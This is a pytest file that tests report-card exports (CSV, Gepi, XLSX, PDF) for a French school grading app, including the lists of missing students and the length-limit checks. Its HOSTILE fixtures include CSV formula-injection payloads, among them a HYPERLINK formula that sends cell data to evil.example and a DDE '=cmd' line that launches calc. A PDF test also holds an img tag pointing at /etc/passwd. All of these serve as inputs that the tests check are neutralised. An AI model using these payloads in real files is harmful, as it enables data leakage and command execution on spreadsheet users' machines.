"""Report-card exports: each file read back field by field, hostile cells, the Gepi format,
the missing-students list and the over-limit flags (builders and selectors)."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from classes.models import TermAssessment
from generation import exports
from generation.export_selectors import (
    MissingReason,
    assignment_export,
    class_export,
    class_subjects,
    exportable_statuses,
)
from generation.exports import (
    GEPI_HEADER,
    MISSING_COLUMNS,
    REPORT_COLUMNS,
    MissingLine,
    ReportHeading,
    ReportLine,
    neutralize_cell,
)
from generation.models import Appreciation
from tests.factories import (
    StudentFactory,
    TeacherFactory,
    TeachingAssignmentFactory,
    TermAssessmentFactory,
    shared_subject,
)

# Cells a spreadsheet would run: each must come out inert.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")


def appreciation(student, subject, term, *, status=Appreciation.Status.VALIDATED, text=None):
    return Appreciation.objects.create(
        student=student,
        subject=subject,
        term=term,
        status=status,
        text=text if text is not None else f"Trimestre sérieux pour {student.pk}.",
    )


def heading(subject: str | None = "Histoire-Géographie") -> ReportHeading:
    return ReportHeading(
        school="Lycée Victor-Hugo",
        school_class="2nde 3",
        term="2e trimestre",
        school_year="2026-2027",
        subject=subject,
    )


def line(**overrides) -> ReportLine:
    values = {
        "last_name": "Martin",
        "first_name": "Léa",
        "identifier": "martin.lea",
        "subject": "Histoire-Géographie",
        "average": Decimal("12.50"),
        "text": "Un trimestre sérieux ; des efforts à poursuivre à l'oral.",
    }
    values.update(overrides)
    return ReportLine(**values)


def read_csv(content: bytes, *, delimiter: str = ";", bom: bool = True) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf") is bom
    text = content.decode("utf-8-sig" if bom else "utf-8")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def assert_inert(value: str) -> None:
    assert not value.startswith(DANGEROUS_STARTS), repr(value)


# --- neutralize_cell -----------------------------------------------------------------------------


@pytest.mark.parametrize("value", [*HOSTILE, "=", "+", "-", "@", "\uff1dSUM(A1)"])
def test_neutralize_cell_prefixes_every_formula_start(value):
    assert neutralize_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["", "Martin", "Élève sérieux.", " =1+1", "1+1", "a=b", "'déjà", "Jean-Pierre"]
)
def test_neutralize_cell_leaves_other_texts_alone(value):
    assert neutralize_cell(value) == value


@pytest.mark.parametrize(
    ("value", "expected"),
    [(Decimal("12.50"), "12,5"), (Decimal("14.00"), "14"), (Decimal("20"), "20"), (None, "")],
)
def test_format_average_fr(value, expected):
    assert exports.format_average_fr(value) == expected


# --- CSV for French spreadsheets -----------------------------------------------------------------


def test_report_csv_reads_back_field_by_field():
    content = exports.report_csv(
        heading=heading(),
        lines=[line(), line(last_name="Durand", first_name="Noé", identifier="", average=None)],
    )
    rows = read_csv(content)
    assert rows[0] == list(REPORT_COLUMNS)
    assert rows[1] == [
        "Martin",
        "Léa",
        "martin.lea",
        "2nde 3",
        "Histoire-Géographie",
        "2e trimestre",
        "12,5",
        "Un trimestre sérieux ; des efforts à poursuivre à l'oral.",
    ]
    assert rows[2][:3] == ["Durand", "Noé", ""]
    assert rows[2][6] == ""
    assert len(rows) == 3
    assert b"\r\n" in content  # Excel's line ends


def test_report_csv_neutralises_hostile_names_and_texts():
    lines = [
        line(last_name=value, first_name=value, identifier=value, text=value) for value in HOSTILE
    ]
    rows = read_csv(exports.report_csv(heading=heading(), lines=lines))[1:]
    assert len(rows) == len(HOSTILE)
    for value, row in zip(HOSTILE, rows, strict=True):
        for index in (0, 1, 2, 7):
            assert row[index] == "'" + value
            assert_inert(row[index])


def test_report_csv_neutralises_hostile_class_and_subject_names():
    hostile = ReportHeading(
        school="=cmd", school_class="=cmd|' /C calc'!A0", term="2e trimestre", school_year="x"
    )
    rows = read_csv(exports.report_csv(heading=hostile, lines=[line(subject="@SUM(1)")]))
    assert rows[1][3] == "'=cmd|' /C calc'!A0"
    assert rows[1][4] == "'@SUM(1)"


# --- Gepi ----------------------------------------------------------------------------------------


def test_gepi_file_reads_back_with_its_header_and_marks():
    content = exports.report_gepi(
        lines=[
            line(),
            line(identifier="durand.noe", average=None, text="Bon travail."),
            line(identifier="petit.ana", average=Decimal("14.00"), text="Très bien."),
        ]
    )
    rows = read_csv(content, bom=False)
    assert rows[0] == list(GEPI_HEADER) == ["IDENTIFIANT", "NOTE", "Appréciation"]
    assert rows[1] == [
        "martin.lea",
        "12,5",
        "Un trimestre sérieux |POINT-VIRGULE| des efforts à poursuivre à l'oral.",
    ]
    assert rows[2] == ["durand.noe", "-", "Bon travail."]
    assert rows[3] == ["petit.ana", "14", "Très bien."]
    assert len(rows) == 4


def test_gepi_encodes_every_semicolon_so_each_line_has_three_fields():
    text = 'Deux ; points ;; "citation" ; fin;'
    content = exports.report_gepi(lines=[line(text=text)])
    raw_lines = content.decode("utf-8").splitlines()
    # No `;` left in the text: splitting on `;` gives exactly the three columns.
    assert raw_lines[1].split(";")[0] == "martin.lea"
    assert len(raw_lines[1].split(";")) == 3
    row = read_csv(content, bom=False)[1]
    assert row[2] == text.replace(";", "|POINT-VIRGULE|")
    # What Gepi does on import gives the text back.
    assert row[2].replace("|POINT-VIRGULE|", ";") == text


def test_gepi_neutralises_hostile_identifiers_and_texts():
    lines = [line(identifier=value, text=value) for value in HOSTILE]
    rows = read_csv(exports.report_gepi(lines=lines), bom=False)[1:]
    for value, row in zip(HOSTILE, rows, strict=True):
        assert row[0] == "'" + value.strip()  # identifiers are trimmed, then neutralised
        assert row[2] == "'" + value
        assert_inert(row[0])
        assert_inert(row[2])


def test_gepi_refuses_a_line_without_identifier():
    with pytest.raises(ValueError, match="identifier"):
        exports.report_gepi(lines=[line(identifier="  ")])


# --- XLSX ----------------------------------------------------------------------------------------


def test_xlsx_reads_back_field_by_field_with_the_missing_sheet():
    content = exports.report_xlsx(
        heading=heading(),
        lines=[line(), line(last_name="Durand", average=None, text="Bien.")],
        missing=[MissingLine("Petit", "Ana", "Histoire-Géographie", "Pas encore d'appréciation")],
    )
    workbook = load_workbook(io.BytesIO(content))
    assert workbook.sheetnames == ["Appréciations", "À compléter"]
    sheet = workbook["Appréciations"]
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert rows[0] == list(REPORT_COLUMNS)
    assert rows[1] == [
        "Martin",
        "Léa",
        "martin.lea",
        "2nde 3",
        "Histoire-Géographie",
        "2e trimestre",
        12.5,
        "Un trimestre sérieux ; des efforts à poursuivre à l'oral.",
    ]
    assert rows[2][0] == "Durand" and rows[2][6] is None and rows[2][7] == "Bien."
    assert sheet.cell(row=2, column=7).data_type == "n"
    missing = [list(row) for row in workbook["À compléter"].iter_rows(values_only=True)]
    assert missing == [
        list(MISSING_COLUMNS),
        ["Petit", "Ana", "Histoire-Géographie", "Pas encore d'appréciation"],
    ]
    assert "2nde 3" in workbook.properties.title


def test_xlsx_without_missing_students_has_one_sheet():
    workbook = load_workbook(io.BytesIO(exports.report_xlsx(heading=heading(), lines=[line()])))
    assert workbook.sheetnames == ["Appréciations"]


def test_xlsx_neutralises_hostile_cells_and_writes_no_formula():
    lines = [line(last_name=value, first_name=value, text=value) for value in HOSTILE]
    workbook = load_workbook(io.BytesIO(exports.report_xlsx(heading=heading(), lines=lines)))
    sheet = workbook.active
    for index, value in enumerate(HOSTILE, start=2):
        for column in (1, 2, 8):
            cell = sheet.cell(row=index, column=column)
            assert cell.data_type == "s"  # a string, never a formula ("f")
            # XML reads a bare carriage return back as a line feed; openpyxl escapes it
            # (&#13;) and keeps it when lxml is installed (python-cas brings it).
            assert cell.value in ("'" + value, "'" + value.replace("\r", "\n"))
            assert_inert(cell.value)
    for row in sheet.iter_rows():
        assert all(cell.data_type != "f" for cell in row)


def test_xlsx_drops_control_characters_instead_of_failing():
    content = exports.report_xlsx(heading=heading(), lines=[line(last_name="Mar\x00tin\x1b")])
    assert load_workbook(io.BytesIO(content)).active["A2"].value == "Martin"


# --- PDF -----------------------------------------------------------------------------------------


def pdf_text(content: bytes) -> str:
    assert content.startswith(b"%PDF")
    reader = PdfReader(io.BytesIO(content))
    return "\n".join(page.extract_text() for page in reader.pages)


def test_pdf_has_school_class_subject_term_students_and_texts():
    content = exports.report_pdf(
        heading=heading(),
        lines=[line(), line(last_name="Durand", first_name="Noé", text="Bonne participation.")],
        missing=[MissingLine("Petit", "Ana", "Histoire-Géographie", "Brouillon à relire")],
        generated_on=date(2027, 2, 20),
    )
    text = " ".join(pdf_text(content).split())
    for expected in (
        "Lycée Victor-Hugo",
        "2nde 3",
        "Histoire-Géographie",
        "2e trimestre 2026-2027",
        "Martin Léa",
        "Durand Noé",
        "Bonne participation.",
        "des efforts à poursuivre",
        "Appréciations manquantes (1)",
        "Petit Ana",
        "Brouillon à relire",
        "20/02/2027",
    ):
        assert expected in text, expected


def test_pdf_of_the_whole_class_groups_subjects_under_each_student():
    lines = [
        line(subject="Anglais", text="Good work.", student_key=1),
        line(subject="Histoire-Géographie", text="Bon travail.", student_key=1),
        line(last_name="Durand", first_name="Noé", subject="Anglais", text="Well.", student_key=2),
    ]
    content = exports.report_pdf(
        heading=heading(subject=None), lines=lines, generated_on=date(2027, 2, 20)
    )
    text = " ".join(pdf_text(content).split())
    assert "Toutes disciplines" in text
    assert text.count("Martin Léa") == 1
    assert text.index("Martin Léa") < text.index("Good work.") < text.index("Bon travail.")
    assert text.index("Bon travail.") < text.index("Durand Noé") < text.index("Well.")


def test_pdf_escapes_markup_in_names_and_texts():
    content = exports.report_pdf(
        heading=heading(),
        lines=[line(last_name="<b>Martin</b>", text='<img src="file:///etc/passwd">Texte')],
        generated_on=date(2027, 2, 20),
    )
    text = pdf_text(content)
    assert "<b>Martin</b>" in text
    assert '<img src="file:///etc/passwd">Texte' in " ".join(text.split())


# --- Copy-all ------------------------------------------------------------------------------------


def test_copy_all_text_keeps_one_line_per_student():
    assert exports.copy_all_text(["Bien.", "", "Très\nbien.", ""]) == "Bien.\n\nTrès bien.\n"


# --- Selectors: what is exportable, and the missing students -------------------------------------


def test_exportable_statuses_follow_the_school_setting(world):
    assert set(exportable_statuses(school=world.school)) == {"validated", "approved"}
    world.school.requires_head_approval = True
    assert exportable_statuses(school=world.school) == ("approved",)


def _students(world):
    return list(world.school_class.students.order_by("last_name", "first_name"))


def test_assignment_export_lists_every_missing_student_with_the_reason(world):
    extra = [StudentFactory(school_class=world.school_class, last_name=f"Zed{i}") for i in range(3)]
    s = _students(world)  # Nom00, Nom01, Nom02, Zed0, Zed1, Zed2
    subject, term = world.assignment.subject, world.term
    appreciation(s[0], subject, term, status=Appreciation.Status.VALIDATED)
    appreciation(s[1], subject, term, status=Appreciation.Status.APPROVED)
    appreciation(s[2], subject, term, status=Appreciation.Status.GENERATED)
    appreciation(s[3], subject, term, status=Appreciation.Status.RETURNED)
    appreciation(s[4], subject, term, status=Appreciation.Status.VALIDATED, text="  ")
    # Another term and another subject do not count.
    appreciation(extra[2], subject, world.terms[0])
    appreciation(extra[2], shared_subject("HGGSP"), term)

    export = assignment_export(assignment=world.assignment, term=term)

    assert [e.student for e in export.entries] == [s[0], s[1]]
    assert [(m.student, m.reason) for m in export.missing] == [
        (s[2], MissingReason.TO_REVIEW),
        (s[3], MissingReason.RETURNED),
        (s[4], MissingReason.EMPTY),
        (s[5], MissingReason.NONE),
    ]
    assert export.expected_count == 6 == len(export.entries) + len(export.missing)
    assert export.missing[0].reason_label == "Brouillon à relire, pas encore validé"


def test_when_approval_is_required_validated_ones_are_missing(world):
    world.school.requires_head_approval = True
    world.school.save()
    s = _students(world)
    subject, term = world.assignment.subject, world.term
    appreciation(s[0], subject, term, status=Appreciation.Status.VALIDATED)
    appreciation(s[1], subject, term, status=Appreciation.Status.APPROVED)

    export = assignment_export(assignment=world.assignment, term=term)

    assert [e.student for e in export.entries] == [s[1]]
    assert [(m.student, m.reason) for m in export.missing] == [
        (s[0], MissingReason.NOT_APPROVED),
        (s[2], MissingReason.NONE),
    ]
    assert export.requires_approval


def test_assignment_export_lines_carry_the_term_average_and_identifier(world):
    s = _students(world)
    subject, term = world.assignment.subject, world.term
    TermAssessmentFactory(student=s[0], subject=subject, term=term, average=Decimal("15.25"))
    s[0].external_id = " martin.lea "
    s[0].save()
    appreciation(s[0], subject, term, text="Excellent trimestre.")
    appreciation(s[1], subject, term, text="Bon trimestre.")

    export = assignment_export(assignment=world.assignment, term=term)
    lines = export.lines()

    assert lines[0].average == Decimal("15.25")
    assert lines[0].identifier == "martin.lea"
    assert lines[0].text == "Excellent trimestre."
    assert lines[0].subject == subject.name
    assert lines[1].average is None  # no input for term 2
    # Gepi: the student without an identifier is listed apart, not silently dropped.
    assert [e.student for e in export.without_identifier] == [s[1]]
    assert [x.last_name for x in export.lines(gepi=True)] == [s[0].last_name]
    rows = read_csv(exports.report_gepi(lines=export.lines(gepi=True)), bom=False)
    assert rows[1] == ["martin.lea", "15,25", "Excellent trimestre."]


def test_over_limit_appreciations_are_flagged(world):
    world.school.appreciation_max_chars = 20
    world.school.save()
    s = _students(world)
    subject, term = world.assignment.subject, world.term
    appreciation(s[0], subject, term, text="x" * 20)
    appreciation(s[1], subject, term, text="y" * 21)

    export = assignment_export(assignment=world.assignment, term=term)

    assert [e.student for e in export.over_limit] == [s[1]]
    assert export.over_limit[0].char_count == 21
    assert export.max_chars == 20


def test_class_export_covers_every_subject_of_the_class(world):
    english = shared_subject("HGGSP")
    TeachingAssignmentFactory(
        teacher=TeacherFactory(school=world.school),
        school_class=world.school_class,
        subject=english,
    )
    # A second teacher of the same subject does not duplicate it.
    TeachingAssignmentFactory(
        teacher=TeacherFactory(school=world.school),
        school_class=world.school_class,
        subject=world.assignment.subject,
    )
    s = _students(world)
    term = world.term
    appreciation(s[0], world.assignment.subject, term, text="HG zéro.")
    appreciation(s[0], english, term, text="HGGSP zéro.")
    appreciation(s[2], english, term, text="HGGSP deux.")

    assert class_subjects(school_class=world.school_class) == [world.assignment.subject, english]
    export = class_export(school_class=world.school_class, term=term)

    assert export.subject is None
    assert [(e.student, e.subject) for e in export.entries] == [
        (s[0], world.assignment.subject),
        (s[0], english),
        (s[2], english),
    ]
    assert [(m.student, m.subject, m.reason) for m in export.missing] == [
        (s[1], world.assignment.subject, MissingReason.NONE),
        (s[1], english, MissingReason.NONE),
        (s[2], world.assignment.subject, MissingReason.NONE),
    ]
    blocks = export.copy_blocks()
    assert [b.subject for b in blocks] == [world.assignment.subject, english]
    assert blocks[1].texts == ["HGGSP zéro.", "", "HGGSP deux."]
    assert blocks[1].all_text == "HGGSP zéro.\n\nHGGSP deux."
    assert export.heading().subject is None
    assert export.heading().title.endswith("Toutes disciplines · 2e trimestre 2026-2027")


def test_export_queries_do_not_grow_with_the_class(world, django_assert_max_num_queries):
    subject, term = world.assignment.subject, world.term
    for index in range(40):
        student = StudentFactory(school_class=world.school_class, last_name=f"Extra{index:02d}")
        appreciation(student, subject, term)
        TermAssessment.objects.create(student=student, subject=subject, term=term, average=10)
    with django_assert_max_num_queries(4):
        export = assignment_export(assignment=world.assignment, term=term)
        export.lines()
        export.missing_lines()
    assert len(export.entries) == 40
